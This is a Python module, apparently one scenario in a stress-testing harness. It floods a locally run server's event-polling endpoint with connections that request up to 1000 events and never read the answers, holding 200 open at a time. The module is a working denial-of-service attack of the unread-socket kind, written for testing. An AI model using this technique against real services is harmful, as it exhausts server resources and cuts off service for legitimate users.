"""Polls for as many events as may be asked for, none of whose answers is read."""

import socket
import time

import client
import unread_sockets

POLLS = 200
LEAST = 1000
SDP = unread_sockets.SDP
DISK = 256 << 20


def prepare(server):
    unread_sockets.PREFIX = "polls"
    caller, callee, call, token = unread_sockets.prepare(server)
    cursor = callee.must("GET", "/v1/events")["cursor"]
    for _ in range(20):
        answer = caller.must("POST", f"/v1/calls/{call}/offer", {"description": {"type": "offer", "sdp": SDP}})
        callee.must("POST", f"/v1/calls/{call}/answer", {
            "negotiation": answer["negotiation"], "description": {"type": "answer", "sdp": "v=0\r\n"}})
    return token, cursor


def attack(server, prepared):
    token, cursor = prepared
    request = client.head("GET", f"/v1/events?cursor={cursor}&limit=1000&waitSeconds=0", token=token)
    held, polls = [], 0
    while True:
        try:
            connection = socket.socket()
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.settimeout(2)
            connection.bind((client.ATTACKER, 0))
            connection.connect(("127.0.0.1", server.port))
            connection.sendall(request)
            held.append(connection)
            polls += 1
        except OSError:
            time.sleep(0.01)
        if len(held) > POLLS:
            held.pop(0).close()
        if polls % 20 == 0:
            yield polls, f"{polls} polls, {POLLS} at a time"
            time.sleep(0.05)
